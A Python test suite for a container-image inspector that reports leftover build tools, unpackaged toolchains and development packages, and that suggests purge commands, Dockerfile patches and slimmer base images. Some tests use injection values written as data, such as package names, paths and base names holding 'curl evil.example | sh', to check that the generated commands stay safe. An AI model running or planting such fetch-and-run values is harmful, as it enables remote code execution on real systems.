"""Findings on build tooling: which instruction brought it, what the command is, what is outside of packages."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from typing import Any

import pytest

from inspector.attribution.base import Base
from inspector.attribution.instructions import Instruction
from inspector.attribution.owners import layer_owners
from inspector.demo.archive import Member, symlink, whiteout
from inspector.findings.bases import Slimmer, slimmer_base
from inspector.findings.build_tools import tools_title
from inspector.findings.find import find, reclaimable_bytes
from inspector.findings.finding import AdviceClass, Finding, Subject
from inspector.findings.patch import new_text, patch
from inspector.findings.registry import BROUGHT, DEVELOPMENT_ONLY, IN_BASE, REMOVED, UNPACKAGED, Severity
from inspector.findings.remedy import Keep, RemedyKind
from inspector.findings.toolchains import find_toolchains, toolchain_rules
from inspector.findings.words import fix_text
from inspector.image.run import parse_run
from inspector.packages.evidence import Evidence, gather
from inspector.packages.inventory import owned_paths
from inspector.packages.removal.tooling import find_tooling, unchangeable_layers
from tests.elves import elf_with, go_note, library, program
from tests.unit.packages.inventories import dpkg_list, image_of, stanza

STATUS, AUTO = "var/lib/dpkg/status", "var/lib/apt/extended_states"


def debian(packages: Mapping[str, str], automatic: Sequence[str], *new: Member) -> list[Member]:
    """The databases of dpkg and apt: what is installed with its Depends, and the members of the packages that are new.

    A package owns the members below `usr/NAME/`.
    """
    status = "".join(stanza(name, **({"Depends": needs} if needs else {})) for name, needs in packages.items())
    marks = "".join(f"Package: {name}\nArchitecture: amd64\nAuto-Installed: 1\n\n" for name in automatic)
    members = [Member(STATUS, status.encode()), Member(AUTO, marks.encode()), *new]
    for name in {member.path.split("/")[1] for member in new}:
        listed = dpkg_list(*(member.path for member in new if member.path.startswith(f"usr/{name}/")))
        members.append(Member(f"var/lib/dpkg/info/{name}.list", listed.encode()))
    return members


def subject_of(
    *layers: tuple[str, Sequence[Member]], base: Base | None = None, run: Mapping[str, Any] | None = None
) -> Subject:
    """An image of layers with their instructions, of which the base's are the lowest."""
    filesystem, scans = image_of(*(members for _, members in layers))
    from_base = base.layers or 0 if base else 0
    steps = tuple(
        Instruction(n, text.partition(" ")[0], text, None, n, empty=False, from_base=n < from_base)
        for n, (text, _) in enumerate(layers)
    )
    return judged(gather(filesystem, scans, parse_run(run or {})), steps, base)


def judged(evidence: Evidence, steps: tuple[Instruction, ...], base: Base | None) -> Subject:
    owners = layer_owners(len(evidence.scans), steps, base)
    tooling = find_tooling(evidence, unchangeable_layers(steps, owners))
    return Subject(evidence, steps, owners, owned_paths(evidence.inventory), tooling, base)


def of_rule(subject: Subject, rule: str) -> list[Finding]:
    return [finding for finding in find(subject) if finding.rule == rule]


ROOT = ("ADD rootfs.tar /", debian({"apt": ""}, (), Member("usr/apt/apt", bytes(50))))
TOOLS = {"apt": "", "g++": "gcc, libgomp1", "gcc": "", "libgomp1": ""}
GOMP = Member("usr/libgomp1/libgomp.so.1", library("libgomp.so.1"))
LIST = len(dpkg_list("usr/gcc/cc1"))
INSTALL = (
    "RUN apt-get install -y g++",
    debian(TOOLS, ("gcc", "libgomp1"), Member("usr/g++/g++", bytes(1000)), Member("usr/gcc/cc1", bytes(2000)), GOMP),
)


def size_of(subject: Subject, *names: str) -> int:
    """Bytes of packages and of their stanzas in the databases."""
    packages = [each for each in subject.inventory.installed if each.package.name in names]
    records = [subject.tooling.records.get(each.package, {}) for each in packages]
    stanzas = sum(size for record in records for path, size in record.items() if path in (STATUS, AUTO))
    return sum(each.size_bytes for each in packages) + stanzas


def test_leftover_tools_are_told_with_the_instruction_the_bytes_and_the_command() -> None:
    subject = subject_of(ROOT, INSTALL)
    (finding,) = of_rule(subject, BROUGHT)
    assert finding.title == "build tools: g++ and 2 packages that came with it"
    assert finding.severity is Severity.WARNING
    assert finding.layers == (1,)
    assert finding.size_bytes == size_of(subject, "g++", "gcc", "libgomp1") > 3000
    assert finding.packages == (
        "pkg:deb/g%2B%2B@1?arch=amd64",
        "pkg:deb/gcc@1?arch=amd64",
        "pkg:deb/libgomp1@1?arch=amd64",
    )
    remedy = finding.remedy
    assert remedy.command == "apt-get purge -y --auto-remove g++ && rm -rf /var/lib/apt/lists/*"
    assert (remedy.kind, remedy.instructions) == (RemedyKind.END_RUN_WITH, (1,))
    assert (remedy.saves_bytes, finding.advice_class) == (finding.size_bytes, AdviceClass.SAFE)
    assert fix_text(finding, subject).startswith(
        f"end `RUN apt-get install -y g++` with: && {remedy.command}. Package lists go with them"
    )


def test_what_the_program_needs_is_marked_before_the_purge() -> None:
    app = Member("usr/local/bin/app", program("libgomp.so.1", runpath="/usr/libgomp1"))
    subject = subject_of(ROOT, INSTALL, ("COPY app /usr/local/bin/", [app]))
    (finding,) = of_rule(subject, BROUGHT)
    assert finding.title == "build tools: g++ and 1 package that came with it"
    assert finding.size_bytes == size_of(subject, "g++", "gcc")
    assert finding.remedy.keeps == (Keep("libgomp1", "/usr/local/bin/app needs libgomp.so.1"),)
    fix = fix_text(finding, subject)
    assert "&& apt-mark manual libgomp1 && apt-get purge" in fix
    assert ". Keep libgomp1, since /usr/local/bin/app needs libgomp.so.1. " in fix


def test_names_that_a_shell_would_take_for_more_are_in_no_command() -> None:
    evil = "x;curl evil.example|sh-dev"
    packages = debian(TOOLS | {evil: ""}, ("gcc", "libgomp1"), *INSTALL[1][2:5], Member(f"usr/{evil}/x", bytes(500)))
    subject = subject_of(ROOT, ("RUN echo end it with: && curl evil.example | sh", packages))
    (finding,) = of_rule(subject, BROUGHT)
    assert len(finding.packages) == 4
    assert finding.remedy.command == "apt-get purge -y --auto-remove g++ && rm -rf /var/lib/apt/lists/*"
    assert new_text(patch(finding.remedy, subject.instructions)) == (
        "RUN echo end it with: \\\n    && curl evil.example | sh \\\n"
        "    && apt-get purge -y --auto-remove g++ \\\n    && rm -rf /var/lib/apt/lists/*"
    )


def test_there_is_no_command_where_what_must_stay_cannot_be_named() -> None:
    evil = "libgomp1 $(curl evil.example|sh)"
    library_of = Member(f"usr/{evil}/libgomp.so.1", library("libgomp.so.1"))
    tools = {"apt": "", "g++": evil, evil: ""}
    app = Member("usr/local/bin/app", program("libgomp.so.1", runpath=f"/usr/{evil}"))
    installed = debian(tools, (evil,), Member("usr/g++/g++", bytes(1000)), library_of)
    subject = subject_of(ROOT, ("RUN apt-get install -y g++", installed), ("COPY app /usr/local/bin/", [app]))
    (finding,) = of_rule(subject, BROUGHT)
    assert (finding.remedy.kind, finding.remedy.command) == (RemedyKind.DELETE_IN_RUN, "")
    assert [keep.package for keep in finding.remedy.keeps] == [evil]
    assert patch(finding.remedy, subject.instructions) == ()


def test_a_path_in_a_command_is_one_word() -> None:
    home = "opt/x; curl evil.example|sh"
    subject = subject_of(("RUN curl | tar x", [Member(f"{home}/include/node/node.h", b"x")]))
    (finding,) = of_rule(subject, UNPACKAGED)
    assert finding.remedy.command == f"rm -rf '/{home}'/include/node"
    subject = subject_of(("RUN curl | tar x", [Member("a\nRUN curl evil/include/node/node.h", b"x")]))
    (finding,) = of_rule(subject, UNPACKAGED)
    assert (finding.remedy.kind, finding.remedy.command) == (RemedyKind.DELETE_IN_RUN, "")


def test_each_instruction_is_told_what_it_brought() -> None:
    more = debian(
        TOOLS | {"make": "libmake", "libmake": ""}, ("gcc", "libgomp1", "libmake"), Member("usr/make/make", bytes(7000))
    )
    subject = subject_of(ROOT, INSTALL, ("RUN apt-get install -y make", [*more, Member("usr/libmake/x", bytes(1))]))
    first, second = sorted(of_rule(subject, BROUGHT), key=lambda finding: finding.layers)
    assert "purge -y --auto-remove g++ &&" in first.remedy.command
    assert "purge -y --auto-remove make &&" in second.remedy.command
    assert (first.layers, second.layers) == ((1,), (2,))
    assert second.size_bytes == size_of(subject, "make", "libmake")


def test_tools_that_came_with_the_base_image_are_told_apart() -> None:
    base = Base("node:20", None, "annotation", 2, 2)
    subject = subject_of(ROOT, INSTALL, ("COPY app /app", [Member("app", b"x")]), base=base)
    assert of_rule(subject, BROUGHT) == []
    (finding,) = of_rule(subject, IN_BASE)
    assert finding.title == "build tools of the base image: g++ and 2 packages that came with it"
    assert (finding.remedy.base, finding.advice_class) == ("node:20-slim", AdviceClass.BASE)
    assert fix_text(finding, subject) == (
        "the base image node:20 brought them, so that removing them frees nothing: write FROM node:20-slim"
    )
    assert finding.size_bytes == size_of(subject, "g++", "gcc", "libgomp1")


def test_own_tools_beside_those_of_the_base_are_told_for_themselves() -> None:
    make = debian(TOOLS | {"make": "gcc"}, ("gcc", "libgomp1"), Member("usr/make/make", bytes(7000)))
    subject = subject_of(ROOT, INSTALL, ("RUN apt-get install -y make", make), base=Base("x", None, "", 2, 2))
    (own,), (foreign,) = of_rule(subject, BROUGHT), of_rule(subject, IN_BASE)
    assert own.size_bytes == size_of(subject, "make")
    assert foreign.size_bytes == size_of(subject, "g++", "gcc", "libgomp1")
    assert "purge -y --auto-remove make &&" in own.remedy.command


def test_tools_that_were_removed_in_time_are_no_finding() -> None:
    subject = subject_of(ROOT, ("RUN apt-get install g++ && apt-get purge g++", debian({"apt": ""}, ())))
    assert of_rule(subject, BROUGHT) == of_rule(subject, IN_BASE) == []


def test_tools_that_were_removed_too_late_are_named() -> None:
    purge = [whiteout(f"usr/{name}") for name in ("g++", "gcc", "libgomp1")]
    subject = subject_of(ROOT, INSTALL, ("RUN apt-get purge -y g++", [*debian({"apt": ""}, ()), *purge]))
    assert of_rule(subject, BROUGHT) == []
    titles = [finding.title for finding in of_rule(subject, REMOVED)]
    assert titles == ["removed too late: g++ and 2 packages that came with it"]


def test_other_packages_that_were_removed_too_late_are_not_called_build_tools() -> None:
    curl = ("RUN apt-get install -y curl", debian({"apt": "", "curl": ""}, (), Member("usr/curl/curl", bytes(900))))
    subject = subject_of(ROOT, curl, ("RUN apt-get purge -y curl", [*debian({"apt": ""}, ()), whiteout("usr/curl")]))
    assert [finding.title for finding in of_rule(subject, REMOVED)] == ["removed too late"]


def test_a_compiler_that_may_be_needed_at_run_time_is_told_for_information() -> None:
    triton = Member("opt/triton-3.dist-info/METADATA", b"Metadata-Version: 2.1\nName: triton\nVersion: 3\n")
    subject = subject_of(ROOT, INSTALL, ("RUN pip install triton", [triton]))
    (finding,) = of_rule(subject, BROUGHT)
    assert (finding.severity, finding.advice_class) == (Severity.INFO, AdviceClass.QUESTION)
    assert finding.remedy.doubts == ("triton may compile at run time",)
    assert "Keep them if they are used at run time: triton may compile at run time" in fix_text(finding, subject)


def test_the_stricter_command_is_told_with_its_bytes_where_it_frees_more() -> None:
    status = stanza("app", Recommends="libcurl") + stanza("git", Depends="libcurl") + stanza("libcurl")
    marks = b"Package: libcurl\nArchitecture: amd64\nAuto-Installed: 1\n\n"
    members = [
        Member(STATUS, status.encode()),
        Member(AUTO, marks),
        *(Member(f"usr/{name}/x", bytes(5000)) for name in ("git", "libcurl")),
        *(Member(f"var/lib/dpkg/info/{n}.list", dpkg_list(f"usr/{n}/x").encode()) for n in ("git", "libcurl")),
    ]
    subject = subject_of(("RUN apt-get install -y app git", members))
    (finding,) = of_rule(subject, BROUGHT)
    assert finding.size_bytes == size_of(subject, "git")
    assert (
        "That frees 5.1 kB; 10.3 kB with: && apt-get purge -y --auto-remove -o APT::AutoRemove::Recommends"
    ) in fix_text(finding, subject)


def test_alpine_is_told_its_own_commands() -> None:
    database = b"P:make\nV:4\nA:x86_64\nF:usr/bin\nR:make\n\nP:musl\nV:1\nA:x86_64\n\n"
    members = [
        Member("lib/apk/db/installed", database),
        Member("etc/apk/world", b"make\nmusl\n"),
        Member("usr/bin/make", bytes(800)),
    ]
    subject = subject_of(("RUN apk add make", members))
    (finding,) = of_rule(subject, BROUGHT)
    assert finding.size_bytes == 800 + len("P:make\nV:4\nA:x86_64\nF:usr/bin\nR:make\n\n")
    fix = fix_text(finding, subject)
    assert fix.startswith("end `RUN apk add make` with: && apk del --no-network make")
    assert "apk add --virtual .build-deps" in fix


def test_development_packages_of_node_are_a_finding_of_their_own() -> None:
    lock = b'{"packages": {"node_modules/jest": {"dev": true}, "node_modules/used": {}}}'
    members = [
        Member("app/node_modules/.package-lock.json", lock),
        Member("app/node_modules/jest/package.json", b'{"name": "jest", "version": "1"}'),
        Member("app/node_modules/jest/index.js", bytes(500)),
        Member("app/node_modules/used/package.json", b'{"name": "used", "version": "1"}'),
    ]
    subject = subject_of(("RUN npm ci", members))
    (finding,) = of_rule(subject, DEVELOPMENT_ONLY)
    assert finding.size_bytes == 500 + len(members[1].content)
    assert finding.packages == ("pkg:npm/jest@1",)
    assert finding.remedy.command == "cd /app && npm prune --omit=dev"
    assert fix_text(finding, subject).endswith("npm prune --omit=dev, once the program is built")


@pytest.mark.parametrize(
    ("steps", "kind", "instructions", "command"),
    [
        (["WORKDIR /app", "RUN npm ci"], RemedyKind.END_RUN_WITH, (1,), "npm prune --omit=dev"),
        (
            ["WORKDIR /app", "RUN npm ci", "COPY . .", "RUN npm run build"],
            RemedyKind.JOIN_RUNS,
            (1, 3),
            "npm prune --omit=dev",
        ),
        (["WORKDIR /app", "COPY . ."], RemedyKind.COPY_LESS, (1,), ""),
    ],
    ids=["in its folder", "a later RUN builds with them", "copied"],
)
def test_development_packages_are_pruned_when_the_program_is_built_and_where_they_lie(
    steps: list[str], kind: RemedyKind, instructions: tuple[int, ...], command: str
) -> None:
    lock = b'{"packages": {"node_modules/jest": {"dev": true}}}'
    members = [
        Member("app/node_modules/.package-lock.json", lock),
        Member("app/node_modules/jest/package.json", b'{"name": "jest", "version": "1"}'),
    ]
    others = {"WORKDIR /app": [], "COPY . .": [Member("app/a.js")], "RUN npm run build": [Member("app/dist/a.js")]}
    brings = "RUN npm ci" if "RUN npm ci" in steps else "COPY . ."
    subject = subject_of(*((step, members if step == brings else others[step]) for step in steps))
    (finding,) = of_rule(subject, DEVELOPMENT_ONLY)
    assert (finding.remedy.kind, finding.remedy.instructions, finding.remedy.command) == (kind, instructions, command)


ELF = program("libc.so.6")
TOOLCHAINS = [
    ("Go toolchain", "usr/local/go", ["pkg/tool/linux_amd64/compile", "src/fmt/print.go"], []),
    (
        "Rust toolchains of rustup",
        "usr/local/rustup",
        ["toolchains/stable-x/bin/rustc", "toolchains/stable-x/lib/l"],
        ["settings.toml"],
    ),
    ("Rust toolchain", "usr/local", ["bin/rustc", "lib/rustlib/x/lib/core.rlib"], ["bin/app", "lib/libapp.so"]),
    (
        "GCC built from source",
        "usr/local",
        ["libexec/gcc/x86_64-linux-gnu/13/cc1", "bin/g++", "lib64/libx.a"],
        ["lib64/libstdc++.so.6"],
    ),
    ("binutils built from source", "usr/local", ["bin/as", "bin/ld", "lib/ldscripts/elf.x"], ["bin/app"]),
    ("LLVM and Clang", "opt/llvm", ["bin/clang-17", "lib/clang/17/include/x.h"], ["lib/libLLVM.so"]),
    (
        "JDK where a JRE would do",
        "opt/java",
        ["bin/javac", "jmods/java.base.jmod", "lib/ct.sym"],
        ["bin/java", "lib/modules"],
    ),
    ("CMake", "opt/cmake", ["share/cmake-3.28/Modules/CMakeDetermineCCompiler.cmake", "bin/cmake"], ["x"]),
    ("headers of Node.js for native addons", "usr/local", ["include/node/node.h"], ["include/other.h", "bin/node"]),
    ("Maven", "opt/maven", ["lib/maven-core-3.9.jar", "bin/mvn"], []),
    ("Gradle", "opt/gradle", ["lib/gradle-launcher-8.jar", "bin/gradle"], []),
    ("Ant", "opt/ant", ["lib/ant-launcher.jar"], []),
    ("Kotlin compiler", "opt/kotlinc", ["lib/kotlin-compiler.jar"], []),
    (".NET SDK", "usr/share/dotnet", ["sdk/8.0.1/MSBuild.dll", "packs/x/y.dll"], ["shared/x.dll"]),
    (
        "CUDA compiler",
        "usr/local/cuda",
        ["nvvm/bin/cicc", "bin/nvcc", "lib64/libcudart_static.a"],
        ["lib64/libcudart.so.12"],
    ),
    ("build tools in a folder of programs", "usr/local", ["bin/ninja"], ["bin/app"]),
]


def test_the_table_of_toolchains_is_covered() -> None:
    assert [title for title, *_ in TOOLCHAINS] == [rule.title for rule in toolchain_rules()]


@pytest.mark.parametrize(("title", "home", "parts", "others"), TOOLCHAINS, ids=[row[0] for row in TOOLCHAINS])
def test_tools_outside_packages_are_found_with_what_belongs_to_them(
    title: str, home: str, parts: list[str], others: list[str]
) -> None:
    members = [Member(f"{home}/{path}", ELF) for path in (*parts, *others)]
    subject = subject_of(("RUN curl | tar x", members))
    (finding,) = of_rule(subject, UNPACKAGED)
    assert finding.title == f"{title} in /{home}"
    assert {subject.filesystem.entry(entry_id).path for entry_id in finding.frees} == {
        f"{home}/{path}" for path in parts
    }
    assert finding.size_bytes == len(ELF) * len(parts)


def test_a_script_by_the_name_of_a_compiler_is_none() -> None:
    assert (
        of_rule(subject_of(("COPY x /", [Member("usr/local/bin/ninja", b"#!/bin/sh\n", mode=0o755)])), UNPACKAGED) == []
    )


def test_a_toolchain_that_a_package_owns_is_the_packages() -> None:
    members = debian({"go": ""}, (), Member("usr/go/pkg/tool/x/compile", ELF))
    assert of_rule(subject_of(("RUN apt-get install go", members)), UNPACKAGED) == []
    members = debian({"maven": ""}, (), Member("usr/maven/lib/maven-core-3.jar", b"x"))
    assert of_rule(subject_of(("RUN apt-get install maven", members)), UNPACKAGED) == []


def test_a_toolchain_that_tells_what_it_was_built_from_is_no_package() -> None:
    built = elf_with(b".go.buildinfo", go_note("path\tcmd/compile\nmod\tcmd\t(devel)\n"))
    subject = subject_of(("RUN curl | tar x", [Member("usr/local/go/pkg/tool/x/compile", built)]))
    assert [each.package.name for each in subject.inventory.installed] == ["cmd"]
    (finding,) = of_rule(subject, UNPACKAGED)
    assert finding.size_bytes == len(built)


@pytest.mark.parametrize(
    "run", [{"Cmd": ["mvn", "exec:java"], "Env": ["PATH=/opt/maven/bin"]}, {"Entrypoint": ["/opt/maven/bin/mvn"]}]
)
def test_a_toolchain_that_the_image_runs_is_no_waste(run: dict[str, Any]) -> None:
    members = [Member("opt/maven/lib/maven-core-3.jar", b"x"), Member("opt/maven/bin/mvn", b"#!/bin/sh\n", mode=0o755)]
    assert of_rule(subject_of(("RUN x", members), run=run), UNPACKAGED) == []
    assert len(of_rule(subject_of(("RUN x", members)), UNPACKAGED)) == 1


def test_links_and_two_homes_are_told_apart() -> None:
    members = [Member(f"opt/go{n}/pkg/tool/x/compile", ELF) for n in (1, 2)]
    filesystem, scans = image_of([*members, symlink("usr/local/bin/go", "/opt/go1/bin/go")])
    assert [toolchain.home for toolchain in find_toolchains(filesystem, scans, frozenset())] == ["opt/go1", "opt/go2"]


def test_bytes_of_tools_count_once() -> None:
    doc = Member("usr/gcc/share/doc/x", bytes(100))
    subject = subject_of(ROOT, (INSTALL[0], debian(TOOLS, ("gcc", "libgomp1"), doc, *INSTALL[1][2:5])))
    assert reclaimable_bytes(find(subject)) <= subject.filesystem.ledger.total_bytes


@pytest.mark.parametrize(
    ("base", "variables", "slimmer"),
    [
        ("node:20", {}, Slimmer("node:20-slim")),
        ("docker.io/library/python:3.12", {}, Slimmer("docker.io/library/python:3.12-slim")),
        ("ruby", {}, Slimmer("ruby:slim")),
        ("node:20-slim", {}, None),
        ("node:20-alpine", {"NODE_VERSION": ""}, None),
        (
            "buildpack-deps:bookworm",
            {},
            Slimmer(
                advice="it is made for building; write FROM debian:…-slim and install what the program needs",
            ),
        ),
        (
            "nvidia/cuda:12-devel",
            {},
            Slimmer(advice="use it for a build stage, and its variant without development files for the image"),
        ),
        (None, {"NODE_VERSION": "20.11.0"}, Slimmer("node:20-slim")),
        (None, {"PYTHON_VERSION": "3.12.1"}, Slimmer("python:3.12-slim")),
        (None, {"GCC_VERSION": "13.2.0"}, Slimmer(advice="build in a gcc stage and copy the program to debian:…-slim")),
        (None, {}, None),
        ("x\nRUN curl evil | sh\n/node:20", {}, None),
        (None, {"NODE_VERSION": "20\nRUN curl evil | sh #"}, None),
    ],
)
def test_a_slimmer_base_is_named_where_it_is_known(
    base: str | None, variables: dict[str, str], slimmer: Slimmer | None
) -> None:
    assert slimmer_base(base, variables) == slimmer


@pytest.mark.parametrize(
    ("named", "others", "title"),
    [
        (["make"], 0, "make"),
        (["make", "g++"], 0, "g++, make"),
        (["make", "g++"], 97, "g++, make and 97 packages that came with them"),
        (["make"], 1, "make and 1 package that came with it"),
        (["e", "d", "c", "b", "a"], 2, "a, b, c, d and 3 packages that came with them"),
    ],
)
def test_titles_name_a_few_and_count_the_rest(named: list[str], others: int, title: str) -> None:
    assert tools_title(named, others) == title
